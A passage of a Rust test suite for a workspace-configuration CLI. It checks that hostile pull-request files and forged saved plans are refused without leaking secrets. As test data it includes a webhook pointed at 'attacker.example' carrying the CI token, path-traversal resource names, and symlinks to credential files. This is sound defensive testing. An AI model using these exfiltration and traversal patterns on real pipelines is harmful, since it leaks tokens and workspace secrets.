//! The hostile-file battery (docs/reference/commands.md, "What a file and a plan can never do"): a workspace file or a
//! saved plan from a stranger's pull request, run the way the CI workflow of docs/CI.md runs it (`diff`, `diff --out`,
//! `apply`) with a production token. Whatever the file says, no secret of the workspace, no value of a `SEG_SECRET_`
//! variable and no token appears in any output; a refusal comes before anything is sent (before any request at all when
//! the file alone tells); nothing is written that the contract forbids.

use serde_json::{Value, json};

use crate::code::{SECRETS, export, rich_workspace, write_file, writes};
use crate::support::{Run, TestEnv, WRITE};

/// What must never be printed: the token, the workspace's secrets, a secret the attacker's file sets, and the values
/// of the variables the CI job holds.
const NEVER: [&str; 6] = [WRITE, "s3cret-web", "amp-k3y", "eDp5", "attacker-literal", "env-s3cret"];

/// The job's environment: the token, and with `secrets` the variables the file's references name (a new value).
fn vars(secrets: bool) -> Vec<(&'static str, &'static str)> {
    let mut vars = vec![("SEG_TOKEN", WRITE)];
    if secrets {
        vars.extend(SECRETS.iter().map(|(name, _)| (*name, "env-s3cret")));
    }
    vars
}

#[track_caller]
fn clean(run: &Run, what: &str) {
    for secret in NEVER {
        assert!(!run.stdout.contains(secret), "{what}: {secret} on stdout:\n{}", run.stdout);
        assert!(!run.stderr.contains(secret), "{what}: {secret} on stderr:\n{}", run.stderr);
    }
}

/// Files the file alone condemns: each refused by `diff`, `diff --out` and `apply` with exit 2, naming the place,
/// before any request.
fn refused_files(base: &str) -> Vec<(&'static str, String, &'static str)> {
    let header_ref = "$env: SEG_SECRET_WEB_WEBHOOKS_HOOKS_1_AUTHORIZATION";
    let shared_ref = "$env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET";
    vec![
        (
            "the token moved into a hook's header, the hook pointed at the attacker",
            base.replace(header_ref, "$env: SEG_TOKEN").replace("https://b.example/in", "https://attacker.example/in"),
            "SEG_TOKEN",
        ),
        ("a variable that is not a secret's", base.replace(shared_ref, "$env: HOME"), "HOME"),
        (
            "a reference in a tracking plan's rules",
            base.replace(
                "      global:\n        type: object\n",
                "      global:\n        x: {$env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET}\n",
            ),
            "may stand only inside a destination's config",
        ),
        (
            "a reference in a filter's condition",
            base.replace("if: userId = 'test'", "if: {$env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET}"),
            "may stand only inside a destination's config",
        ),
        (
            "a reference in a label",
            base.replace("      team: growth\n", "      team: {$env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET}\n"),
            "may stand only inside a destination's config",
        ),
        (
            "a reference beside other keys",
            base.replace(shared_ref, "$env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET\n            x: 1"),
            "one key",
        ),
        (
            "a source given twice (the second would win)",
            base.replace(
                "tracking_plans:\n",
                "  web:\n    catalog_name: catalog/sources/javascript\ntracking_plans:\n",
            ),
            "given twice",
        ),
        ("a slug the service refuses", base.replace("  ios:\n", "  iOS:\n"), "not a slug"),
        (
            "an alias carrying a reference out of config",
            base.replace("sharedSecret:\n            $env", "sharedSecret: &s\n            $env")
                .replace("      global:\n        type: object\n", "      global: *s\n"),
            "alias",
        ),
        (
            "nesting that would overflow a stack",
            base.replace(
                "globalHook: https://legacy.example/in",
                &format!("globalHook: {}{}", "[".repeat(5000), "]".repeat(5000)),
            ),
            "deeper than",
        ),
        ("another format", base.replace("format: seg/1", "format: seg/9"), "seg/9"),
        (
            "a plan's rules of the wrong shape",
            base.replace("      events: []\n", "      events: [1]\n"),
            "must hold objects",
        ),
        ("a source given twice in a JSON file (the second would win)", json_with_a_source_twice(base), "given twice"),
    ]
}

/// `base` as a JSON file whose `sources` name `ios` twice: first a bare one, then the real one.
fn json_with_a_source_twice(base: &str) -> String {
    let value: Value = serde_yaml_ng::from_str(base).unwrap();
    let text = serde_json::to_string_pretty(&value).unwrap();
    assert!(text.contains("\"ios\": {"), "{text}");
    text.replacen("\"sources\": {", "\"sources\": {\n    \"ios\": {\"catalog_name\": \"catalog/sources/ios\"},", 1)
}

/// The job's choice of API: the Config API (the default), or the Public API.
const API_CONFIG: &[(&str, &str)] = &[];
const API_PUBLIC: &[(&str, &str)] = &[("SEG_API", "public")];

/// The verbosities every run of the battery is made at: what `-v` and `-vv` print (requests, headers, bodies)
/// holds no secret either.
const VERBOSITY: [&[&str]; 3] = [&[], &["-v"], &["-vv"]];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_that_breaks_the_contract_is_refused_before_any_request_and_prints_no_secret() {
    let env = rich_workspace().await;
    let base = export(&env).await;
    env.clear_requests().await;
    // The file alone condemns these, whichever API the job speaks.
    for (what, text, says) in refused_files(&base)
        .into_iter()
        .flat_map(|case| [API_CONFIG, API_PUBLIC].map(|api| (case.clone(), api)))
        .map(|((what, text, says), api)| ((what, api), text, says))
    {
        let (what, api) = what;
        let file = write_file(&env, "pr.yaml", &text);
        let out = env.path("plan.json");
        let _ = std::fs::remove_file(&out);
        for (secrets, verbosity) in
            [(false, VERBOSITY[0]), (true, VERBOSITY[0]), (true, VERBOSITY[1]), (false, VERBOSITY[2])]
        {
            for args in [
                vec!["diff", "--file", &file],
                vec!["diff", "--file", &file, "-o", "json"],
                vec!["diff", "--file", &file, "--out", out.to_str().unwrap()],
                vec!["apply", "--file", &file, "--yes"],
                vec!["apply", "--file", &file, "--prune", "--yes"],
            ] {
                let args = [verbosity, &args].concat();
                let mut vars = vars(secrets);
                vars.extend(api);
                let run = env.seg_with(&args, &vars).await;
                let said = format!("{what}: {args:?} {api:?}\n{}", run.stderr);
                assert_eq!(run.code, 2, "{said}");
                assert!(run.stderr.contains(says) && run.stderr.contains("line"), "{said}");
                clean(&run, what);
                assert!(env.requests().await.is_empty(), "{said}: a request was sent");
                assert!(!out.exists(), "{said}: a plan was written");
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_that_reaches_for_secrets_shows_them_only_as_markers() {
    let env = rich_workspace().await;
    let base = export(&env).await;
    // The hook that carries the Authorization header now points at the attacker and the shared secret is set to a
    // value the attacker knows: every secret of the plan shows as a marker, with and without the variables, at every
    // verbosity. (An item typed secret only by its catalog entry: `a_setting_only_the_catalog_marks_secret...`.)
    let text = base.replace("https://b.example/in", "https://attacker.example/in").replace(
        "sharedSecret:\n            $env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET",
        "sharedSecret: attacker-literal",
    );
    let file = write_file(&env, "pr.yaml", &text);
    env.clear_requests().await;
    for (secrets, verbosity) in [false, true].into_iter().flat_map(|s| VERBOSITY.map(|v| (s, v))) {
        let seg = async |args: &[&str]| env.seg_with(&[verbosity, args].concat(), &vars(secrets)).await;
        let run = seg(&["diff", "--file", &file, "-o", "table"]).await;
        assert_eq!(run.code, 1, "{}", run.stderr);
        clean(&run, "diff");
        assert!(run.stdout.contains("destination.config.sharedSecret: (secret changed)"), "{}", run.stdout);
        assert!(run.stdout.contains("attacker.example") && run.stdout.contains("(secret"), "{}", run.stdout);
        let run = seg(&["diff", "--file", &file, "-o", "json"]).await;
        clean(&run, "diff -o json");
        let plan = run.json();
        let fields: Vec<&Value> =
            plan["changes"].as_array().unwrap().iter().flat_map(|c| c["fields"].as_array().unwrap()).collect();
        let shared = fields.iter().find(|f| f["path"] == "destination.config.sharedSecret").unwrap();
        assert_eq!((&shared["from"], &shared["to"]), (&json!("(secret changed)"), &json!("(secret changed)")));
        // A saved plan would carry the literal: refused, nothing written.
        let out = env.path("plan.json");
        let run = seg(&["diff", "--file", &file, "--out", out.to_str().unwrap()]).await;
        assert_eq!(run.code, 2, "{}", run.stderr);
        assert!(run.stderr.contains("written literally") && !out.exists(), "{}", run.stderr);
        clean(&run, "diff --out");
        // A dry run describes the requests with the secrets masked.
        let run = env.seg_with(&[verbosity, &["apply", "--file", &file, "--dry-run"]].concat(), &vars(true)).await;
        assert_eq!(run.code, 0, "{}", run.stderr);
        clean(&run, "apply --dry-run");
    }
    assert!(writes(&env).await.is_empty(), "diff and a dry run send no write");
    // Without the literal, the plan can be saved: it holds the references, never a value.
    let text = base.replace("https://b.example/in", "https://attacker.example/in");
    let file = write_file(&env, "pr.yaml", &text);
    let out = env.path("plan.json");
    let run = env.seg_with(&["diff", "--file", &file, "--out", out.to_str().unwrap()], &vars(true)).await;
    assert_eq!(run.code, 1, "{}", run.stderr);
    let saved = std::fs::read_to_string(&out).unwrap();
    for secret in NEVER {
        assert!(!saved.contains(secret), "{secret} in the saved plan:\n{saved}");
    }
    assert!(saved.contains("SEG_SECRET_WEB_WEBHOOKS_HOOKS_1_AUTHORIZATION"), "{saved}");
    // Applied with the variables: the header is sent with the variable's value, and no output shows it.
    let run = env.seg_with(&["apply", "--plan", out.to_str().unwrap()], &vars(true)).await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    clean(&run, "apply --plan");
    // (The variables hold new values for every secret: the shared secret and amplitude's key change too.)
    let sent = writes(&env).await;
    assert_eq!(sent.len(), 2, "{sent:?}");
    let hooks = sent[0].2.pointer("/destination/config/0/value/1").unwrap();
    assert_eq!(
        hooks,
        &json!({"hook": "https://attacker.example/in", "headers": [{"key": "Authorization", "value": "env-s3cret"}]})
    );
}

/// The same file run by a job on the Public API, whose answers censor every secret: the plan shows the file's and the
/// variables' values only as markers, at every verbosity, and a dry run describes no secret.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn on_the_public_api_a_file_that_reaches_for_secrets_shows_them_only_as_markers() {
    let env = rich_workspace().await;
    let base = export(&env).await;
    let text = base.replace("https://b.example/in", "https://attacker.example/in").replace(
        "sharedSecret:\n            $env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET",
        "sharedSecret: attacker-literal",
    );
    let file = write_file(&env, "pr.yaml", &text);
    env.clear_requests().await;
    for (secrets, verbosity) in [false, true].into_iter().flat_map(|s| VERBOSITY.map(|v| (s, v))) {
        let mut vars = vars(secrets);
        vars.extend(API_PUBLIC);
        let seg = async |args: &[&str]| env.seg_with(&[verbosity, args].concat(), &vars).await;
        let run = seg(&["diff", "--file", &file, "-o", "table"]).await;
        assert_eq!(run.code, 1, "{}", run.stderr);
        clean(&run, "diff");
        assert!(run.stdout.contains("attacker.example") && run.stdout.contains("(secret"), "{}", run.stdout);
        let run = seg(&["diff", "--file", &file, "-o", "json"]).await;
        clean(&run, "diff -o json");
        let plan = run.json();
        let fields: Vec<&Value> =
            plan["changes"].as_array().unwrap().iter().flat_map(|c| c["fields"].as_array().unwrap()).collect();
        for field in fields.iter().filter(|f| f["path"].as_str().unwrap().ends_with("sharedSecret")) {
            assert!(field["from"].as_str().unwrap().starts_with("(secret"), "{field}");
            assert!(field["to"].as_str().unwrap().starts_with("(secret"), "{field}");
        }
        let out = env.path("plan.json");
        let run = seg(&["diff", "--file", &file, "--out", out.to_str().unwrap()]).await;
        assert_eq!(run.code, 2, "{}", run.stderr);
        assert!(run.stderr.contains("written literally") && !out.exists(), "{}", run.stderr);
        clean(&run, "diff --out");
        let run = seg(&["apply", "--file", &file, "--dry-run"]).await;
        clean(&run, "apply --dry-run");
    }
    assert!(writes(&env).await.is_empty(), "diff and a dry run send no write");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_delete_counts_what_it_takes_with_it_before_any_write() {
    let env = rich_workspace().await;
    let base = export(&env).await;
    // The file without the web source: with --prune, deleting it takes its 2 destinations, their 2 filters and its
    // connection to Main plan.
    let start = base.find("  web:\n").unwrap();
    let end = base.find("  ios:\n").unwrap();
    let text = format!("{}{}", &base[..start], &base[end..]).replace("    - web\n", "");
    let file = write_file(&env, "pr.yaml", &text);
    env.clear_requests().await;
    let run = env.seg_with(&["diff", "--file", &file, "--prune", "-o", "json"], &vars(true)).await;
    assert_eq!(run.code, 1, "{}", run.stderr);
    let plan = run.json();
    let delete = plan["changes"].as_array().unwrap().iter().find(|c| c["action"] == "delete").unwrap().clone();
    assert_eq!(delete["resource"], "workspaces/acme/sources/web");
    let with: Vec<&str> = delete["with"].as_array().unwrap().iter().map(|w| w.as_str().unwrap()).collect();
    assert_eq!(
        with.iter().filter(|w| w.ends_with("/destinations/webhooks") || w.ends_with("/destinations/amplitude")).count(),
        2,
        "{with:?}"
    );
    assert_eq!(with.iter().filter(|w| w.contains("/filters/")).count(), 2, "{with:?}");
    assert_eq!(with.iter().filter(|w| w.contains("/source-connections/web")).count(), 1, "{with:?}");
    let run = env.seg_with(&["diff", "--file", &file, "--prune", "-o", "table"], &vars(true)).await;
    assert!(
        run.stdout.contains("with destination workspaces/acme/sources/web/destinations/webhooks"),
        "{}",
        run.stdout
    );
    // --max-deletes counts them: 1 source is 6 deletes.
    for max in ["1", "5"] {
        let run =
            env.seg_with(&["apply", "--file", &file, "--prune", "--max-deletes", max, "--yes"], &vars(true)).await;
        assert_eq!(run.code, 2, "{}", run.stderr);
        assert!(
            run.stderr.contains("6 resources") && run.stderr.contains("1 source, 2 destinations, 2 filters"),
            "{}",
            run.stderr
        );
    }
    let run = env.seg_with(&["apply", "--file", &file, "--prune"], &vars(true)).await;
    assert!(run.code == 2 && run.stderr.contains("--yes"), "{}", run.stderr);
    assert!(writes(&env).await.is_empty(), "a refusal sent a write");
    env.seg_with(&["apply", "--file", &file, "--prune", "--max-deletes", "6", "--yes"], &vars(true)).await.code(0);
}

/// A plan saved by `diff --out` that enables amplitude, for the saved-plan battery to edit.
async fn saved_plan(env: &TestEnv) -> (Value, String) {
    let text = export(env).await.replace(
        "        enabled: false\n        connection_mode: DEVICE",
        "        enabled: true\n        connection_mode: DEVICE",
    );
    let file = write_file(env, "pr.yaml", &text);
    let out = env.path("plan.json");
    env.seg_with(&["diff", "--file", &file, "--out", out.to_str().unwrap()], &vars(false)).await.code(1);
    let plan: Value = serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
    assert_eq!(plan["changes"].as_array().unwrap().len(), 1, "{plan}");
    (plan, out.to_str().unwrap().to_string())
}

/// An edit of a saved plan: what it is, the edit, extra arguments, the exit code it must get.
type Edit = (&'static str, Box<dyn Fn(&mut Value)>, &'static [&'static str], i32);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_saved_plan_is_checked_not_trusted() {
    let env = rich_workspace().await;
    let (plan, path) = saved_plan(&env).await;
    const AMPLITUDE: &str = "workspaces/acme/sources/web/destinations/amplitude";
    const WEBHOOKS: &str = "workspaces/acme/sources/web/destinations/webhooks";
    let (amplitude, webhooks) = (AMPLITUDE, WEBHOOKS);
    let edits: Vec<Edit> = vec![
        (
            "a request hidden under the change's label",
            Box::new(move |p| {
                p["changes"][0]["op"]["update"] = json!({"destination": {"config": [{"name": format!("{amplitude}/config/apiKey"), "value": "x"}]},
                    "update_mask": {"paths": ["destination.config"]}});
            }),
            &[],
            2,
        ),
        (
            "the request sent to another destination",
            Box::new(move |p| p["changes"][0]["op"]["name"] = json!(webhooks)),
            &[],
            2,
        ),
        (
            "a delete labelled as an update",
            Box::new(move |p| {
                p["changes"][0]["op"] = json!({"op": "delete_source", "name": "workspaces/acme/sources/web"})
            }),
            &[],
            2,
        ),
        (
            "a request into another workspace",
            Box::new(move |p| {
                p["changes"][0]["op"]["name"] = json!("workspaces/staging/sources/web/destinations/amplitude");
                p["changes"][0]["resource"] = json!("workspaces/staging/sources/web/destinations/amplitude");
            }),
            &[],
            2,
        ),
        (
            "a path out of the workspace",
            Box::new(move |p| {
                let name = "workspaces/acme/sources/../../../access-tokens/1";
                p["changes"][0]["op"] = json!({"op": "delete_source", "name": name});
                p["changes"][0]["resource"] = json!(name);
                p["changes"][0]["action"] = json!("delete");
                p["changes"][0]["fields"] = json!([]);
            }),
            &[],
            2,
        ),
        (
            "the token sent through a hook's header",
            Box::new(move |p| {
                let hooks = json!([{"hook": "https://attacker.example/in", "headers": [{"key": "Authorization", "value": {"$env": "SEG_TOKEN"}}]}]);
                p["changes"][0]["op"] = json!({"op": "update_destination", "name": webhooks, "update": {
                    "destination": {"config": [{"name": format!("{webhooks}/config/hooks"), "value": hooks}]},
                    "update_mask": {"paths": ["destination.config"]}}});
                p["changes"][0]["resource"] = json!(webhooks);
            }),
            &[],
            2,
        ),
        ("a plan of an older format", Box::new(move |p| p["format"] = json!("seg-plan/1")), &[], 2),
        ("a plan for another workspace than -w", Box::new(|_| {}), &["-w", "staging"], 2),
        (
            "a deletion count edited away",
            Box::new(move |p| {
                p["changes"][0] = json!({"action": "delete", "resource": "workspaces/acme/sources/web",
                    "op": {"op": "delete_source", "name": "workspaces/acme/sources/web"}});
            }),
            &[],
            2,
        ),
    ];
    env.clear_requests().await;
    for (what, edit, extra, code) in edits {
        let mut edited = plan.clone();
        edit(&mut edited);
        std::fs::write(&path, serde_json::to_string_pretty(&edited).unwrap()).unwrap();
        let mut args = vec!["apply", "--plan", path.as_str(), "--yes"];
        args.extend_from_slice(extra);
        let run = env.seg_with(&args, &vars(true)).await;
        let said = format!("{what}\nstdout: {}\nstderr: {}", run.stdout, run.stderr);
        assert_eq!(run.code, code, "{said}");
        clean(&run, what);
        assert!(writes(&env).await.is_empty(), "{said}: a write was sent");
    }
    // The plan as saved, once someone changed the very field it changes: stale (exit 1), not a forgery.
    std::fs::write(&path, serde_json::to_string_pretty(&plan).unwrap()).unwrap();
    let patch = ["-w", "acme", "destinations", "patch", "web/amplitude"];
    env.seg(&[&patch[..], &["--enabled"]].concat()).await.code(0);
    let run = env.seg_with(&["apply", "--plan", &path, "--yes"], &vars(true)).await;
    assert!(run.code == 1 && run.stderr.contains("has changed since the plan was made"), "{}", run.stderr);
    env.seg(&[&patch[..], &["--enabled=false"]].concat()).await.code(0);
    // A plan made now, as saved, applies.
    let (plan, path) = saved_plan(&env).await;
    std::fs::write(&path, serde_json::to_string_pretty(&plan).unwrap()).unwrap();
    env.clear_requests().await;
    env.seg_with(&["apply", "--plan", &path, "--yes"], &vars(true)).await.code(0);
    assert_eq!(writes(&env).await.len(), 1);
}

/// A plan's requests and fingerprints are its API's: a plan made on one API is refused by the other before any
/// request, and an edit of its `api` does not smuggle it across.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_saved_plan_is_applied_only_on_the_api_it_was_made_on() {
    let env = rich_workspace().await;
    let (plan, path) = saved_plan(&env).await;
    assert_eq!(plan["api"], "config", "{plan}");
    env.clear_requests().await;
    let mut on_public = vars(true);
    on_public.extend(API_PUBLIC);
    let run = env.seg_with(&["apply", "--plan", &path, "--yes"], &on_public).await;
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("--api config") && run.stderr.contains("--api public"), "{}", run.stderr);
    clean(&run, "apply --plan on the other API");
    assert!(env.requests().await.is_empty(), "refused before any request");
    let mut edited = plan.clone();
    edited["api"] = json!("public");
    std::fs::write(&path, serde_json::to_string_pretty(&edited).unwrap()).unwrap();
    let run = env.seg_with(&["apply", "--plan", &path, "--yes"], &vars(true)).await;
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(env.requests().await.is_empty(), "refused before any request");
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_seg_reads_or_writes_are_never_links_to_secrets() {
    let env = rich_workspace().await;
    let credentials = env.path("credentials.toml");
    std::fs::write(&credentials, format!("[tokens]\ndefault = \"{WRITE}\"\n")).unwrap();
    let environ = env.path("environ");
    std::fs::write(&environ, format!("SEG_TOKEN={WRITE}\0HOME=/root\0")).unwrap();
    let dotenv = env.path("dotenv");
    std::fs::write(&dotenv, format!("SEG_TOKEN={WRITE}\n")).unwrap();
    env.clear_requests().await;
    // A committed workspace file that is a link to a secret: refused, nothing quoted.
    for target in [&credentials, &environ, &dotenv] {
        let link = env.path("linked.yaml");
        let _ = std::fs::remove_file(&link);
        std::os::unix::fs::symlink(target, &link).unwrap();
        for args in
            [vec!["diff", "--file", link.to_str().unwrap()], vec!["apply", "--file", link.to_str().unwrap(), "--yes"]]
        {
            let run = env.seg_with(&args, &vars(true)).await;
            assert_eq!(run.code, 2, "{args:?}: {}", run.stderr);
            clean(&run, "a linked file");
        }
    }
    // A committed plan.json or export that is a link to a secret: refused, the secret's file untouched.
    let text = export(&env).await;
    let file = write_file(&env, "pr.yaml", &text.replace("connection_mode: DEVICE", "connection_mode: CLOUD"));
    let out = env.path("plan.json");
    std::os::unix::fs::symlink(&credentials, &out).unwrap();
    let run = env.seg_with(&["diff", "--file", &file, "--out", out.to_str().unwrap()], &vars(true)).await;
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("symbolic link"), "{}", run.stderr);
    let run = env.seg_with(&["-w", "acme", "export", "--file", out.to_str().unwrap()], &vars(true)).await;
    assert_eq!(run.code, 2, "{}", run.stderr);
    clean(&run, "export to a link");
    assert_eq!(std::fs::read_to_string(&credentials).unwrap(), format!("[tokens]\ndefault = \"{WRITE}\"\n"));
    assert!(writes(&env).await.is_empty());
    // Standard streams named as such are written through.
    let run = env.seg_with(&["-w", "acme", "export", "--file", "/dev/stdout"], &vars(false)).await;
    assert!(run.code(0).stdout.starts_with("format: seg/1"), "{}", run.stdout);
    // A directory of the checkout committed as a link (here to seg's own config folder): the job writes nothing
    // through it, whatever the file's own name. A real directory of the checkout is written into.
    let (checkout, config) = (env.path("checkout"), env.path(".config/seg"));
    std::fs::create_dir_all(checkout.join("real")).unwrap();
    std::fs::create_dir_all(&config).unwrap();
    std::os::unix::fs::symlink(&config, checkout.join("linkdir")).unwrap();
    let in_checkout = async |args: &[&str]| {
        let mut command = env.command(args, &vars(true));
        command.current_dir(&checkout);
        crate::support::run_with_stdin(command, b"").await
    };
    for args in [
        vec!["-w", "acme", "export", "--file", "linkdir/config.toml"],
        vec!["-w", "acme", "export", "--file", "./real/../linkdir/sub/out.yaml"],
        vec!["diff", "--file", &file, "--out", "linkdir/plan.json"],
        vec!["--dry-run", "diff", "--file", &file, "--out", "linkdir/plan.json"],
    ] {
        let run = in_checkout(&args).await;
        assert_eq!(run.code, 2, "{args:?}: {}", run.stderr);
        assert!(run.stderr.contains("linkdir is a symbolic link"), "{args:?}: {}", run.stderr);
        clean(&run, "a write through a linked directory");
    }
    let written: Vec<_> = std::fs::read_dir(&config).unwrap().flatten().map(|e| e.file_name()).collect();
    assert!(written.is_empty(), "written through the link: {written:?}");
    in_checkout(&["-w", "acme", "export", "--file", "real/out.yaml"]).await.code(0);
    assert!(std::fs::read_to_string(checkout.join("real/out.yaml")).unwrap().starts_with("format: seg/1"));
    assert!(writes(&env).await.is_empty());
}

/// The token of the seeded server.
const SEEDED_TOKEN: &str = "hostile-seeded-token";
/// The workspace's value of `licenseKey`, which the seeded server's catalog types PASSWORD.
const LICENSE: &str = "seed-licen5e-value";
/// What a pull request sets `licenseKey` to.
const LICENSE_LITERAL: &str = "attacker-license-literal";

/// `seg serve` started from a seed file (a `seg/1` file): its workspace `acme` holds `web` with a `vault-sync`
/// destination, which the built-in catalog lacks, so the seed adds it to the catalog typed from the file's values:
/// `licenseKey`, a `$env` reference, becomes a PASSWORD setting (a name no rule calls a credential), `maxId` and
/// `sampleRate` NUMBER settings. Stopped when dropped.
struct Seeded {
    child: std::process::Child,
    base: String,
}

impl Drop for Seeded {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn seeded(env: &TestEnv) -> Seeded {
    use std::io::Read;
    let seed = write_file(
        env,
        "seed.yaml",
        "format: seg/1\nworkspace: acme\nsources:\n  web:\n    catalog_name: catalog/sources/javascript\n    \
         destinations:\n      vault-sync:\n        enabled: true\n        config:\n          \
         licenseKey: {$env: SEG_SECRET_WEB_VAULT_SYNC_LICENSEKEY}\n          region: eu\n          \
         maxId: 9007199254740992\n          sampleRate: 0.1\n",
    );
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_seg"))
        .args(["serve", "--port", "0", "--rate-limit", "0", "--seed", &seed])
        .args(["--accept-token", &format!("{SEEDED_TOKEN}:workspace")])
        .env_clear()
        .env("HOME", env.home.path())
        .env("SEG_NO_KEYRING", "1")
        .env("SEG_SECRET_WEB_VAULT_SYNC_LICENSEKEY", LICENSE)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let (mut first, mut byte) = (Vec::new(), [0u8; 1]);
    while stdout.read_exact(&mut byte).is_ok() && byte[0] != b'\n' {
        first.push(byte[0]);
    }
    let first = String::from_utf8(first).unwrap();
    let base = first.strip_prefix("listening on ").unwrap_or_else(|| panic!("seg serve said {first:?}")).to_string();
    // The rest of stdout (the token line) is left unread: the pipe holds it.
    child.stdout = Some(stdout);
    Seeded { child, base }
}

/// The job's variables against the seeded server, with the secret's variable (a new value) or without.
fn seeded_vars(server: &Seeded, secrets: bool) -> Vec<(&'static str, String)> {
    let mut vars = vec![("SEG_TOKEN", SEEDED_TOKEN.to_string()), ("SEG_BASE_URL", server.base.clone())];
    if secrets {
        vars.push(("SEG_SECRET_WEB_VAULT_SYNC_LICENSEKEY", "env-s3cret".to_string()));
    }
    vars
}

#[track_caller]
fn clean_of_the_license(run: &Run, what: &str) {
    for secret in [SEEDED_TOKEN, LICENSE, LICENSE_LITERAL, "env-s3cret"] {
        assert!(!run.stdout.contains(secret), "{what}: {secret} on stdout:\n{}", run.stdout);
        assert!(!run.stderr.contains(secret), "{what}: {secret} on stderr:\n{}", run.stderr);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_setting_only_the_catalog_marks_secret_shows_only_as_a_marker() {
    let env = TestEnv::start().await;
    let server = seeded(&env);
    let seg = async |args: &[&str], secrets: bool| {
        let vars = seeded_vars(&server, secrets);
        let vars: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (*k, v.as_str())).collect();
        env.seg_with(args, &vars).await
    };
    let file = env.path("acme.yaml");
    let run = seg(&["-w", "acme", "export", "--file", file.to_str().unwrap()], false).await;
    run.code(0);
    clean_of_the_license(&run, "export");
    let exported = std::fs::read_to_string(&file).unwrap();
    assert!(exported.contains("licenseKey:\n            $env: SEG_SECRET_WEB_VAULT_SYNC_LICENSEKEY"), "{exported}");
    // The pull request writes the secret literally.
    let text = exported.replace(
        "licenseKey:\n            $env: SEG_SECRET_WEB_VAULT_SYNC_LICENSEKEY",
        &format!("licenseKey: {LICENSE_LITERAL}"),
    );
    let file = write_file(&env, "pr.yaml", &text);
    let out = env.path("plan.json");
    for (secrets, verbosity) in [false, true].into_iter().flat_map(|s| VERBOSITY.map(|v| (s, v))) {
        let run = seg(&[verbosity, &["diff", "--file", &file, "-o", "table"]].concat(), secrets).await;
        assert_eq!(run.code, 1, "{}", run.stderr);
        clean_of_the_license(&run, "diff");
        assert!(run.stdout.contains("destination.config.licenseKey: (secret changed)"), "{}", run.stdout);
        let run = seg(&[verbosity, &["diff", "--file", &file, "-o", "json"]].concat(), secrets).await;
        clean_of_the_license(&run, "diff -o json");
        let fields = run.json()["changes"][0]["fields"].clone();
        assert_eq!(
            fields,
            json!([{"path": "destination.config.licenseKey", "from": "(secret changed)", "to": "(secret changed)"}])
        );
        let run = seg(&[verbosity, &["diff", "--file", &file, "--out", out.to_str().unwrap()]].concat(), secrets).await;
        assert!(run.code == 2 && run.stderr.contains("written literally") && !out.exists(), "{}", run.stderr);
        clean_of_the_license(&run, "diff --out");
        let run = seg(&[verbosity, &["apply", "--file", &file, "--dry-run"]].concat(), secrets).await;
        assert_eq!(run.code, 0, "{}", run.stderr);
        clean_of_the_license(&run, "apply --dry-run");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn values_compare_exactly_end_to_end() {
    let env = TestEnv::start().await;
    let server = seeded(&env);
    let seg = async |args: &[&str]| {
        // Without the secret's variable: the secret is unverifiable, not a difference.
        let vars = seeded_vars(&server, false);
        let vars: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (*k, v.as_str())).collect();
        env.seg_with(args, &vars).await
    };
    let file = env.path("acme.yaml");
    seg(&["-w", "acme", "export", "--file", file.to_str().unwrap()]).await.code(0);
    let exported = std::fs::read_to_string(&file).unwrap();
    assert!(exported.contains("maxId: 9007199254740992\n") && exported.contains("sampleRate: 0.1\n"), "{exported}");
    seg(&["diff", "--file", file.to_str().unwrap()]).await.code(0);
    // The workspace holds 9007199254740992 and 0.1; a double holds each value of the file the same.
    let json_of = |yaml: &str| serde_json::to_string_pretty(&serde_yaml_ng::from_str::<Value>(yaml).unwrap()).unwrap();
    for (what, from, to, differs) in [
        ("an integer beyond 2^53", "maxId: 9007199254740992", "maxId: 9007199254740993", true),
        ("a decimal's last digits", "sampleRate: 0.1", "sampleRate: 0.1000000000000000055511151231257827", true),
        ("the same value spelled otherwise", "sampleRate: 0.1", "sampleRate: 1.0e-1", false),
    ] {
        let yaml = exported.replace(from, to);
        // The JSON form of the file holds the same numbers: YAML's reading makes doubles of them, so it gets them
        // spelled as the YAML file does.
        let (key, number) = to.split_once(": ").unwrap();
        let json = json_of(&exported)
            .replace(&format!("\"{key}\": {}", from.split_once(": ").unwrap().1), &format!("\"{key}\": {number}"));
        for (format, text) in [("yaml", yaml), ("json", json)] {
            let path = write_file(&env, &format!("pr.{format}"), &text);
            let run = seg(&["diff", "--file", &path, "-o", "table"]).await;
            let said = format!("{what} ({format}):\n{}{}", run.stdout, run.stderr);
            if differs {
                assert_eq!(run.code, 1, "{said}");
                let line = format!("destination.config.{key}: {} -> {number}", from.split_once(": ").unwrap().1);
                assert!(run.stdout.contains(&line), "{said}");
            } else {
                assert_eq!(run.code, 0, "{said}");
            }
        }
    }
}

/// The manual's CI workflow (docs/CI.md, "A workspace reviewed in pull requests") follows the model the battery
/// tests: in each job seg is installed before the checkout, outside the tree, with the toolchain named (a pull
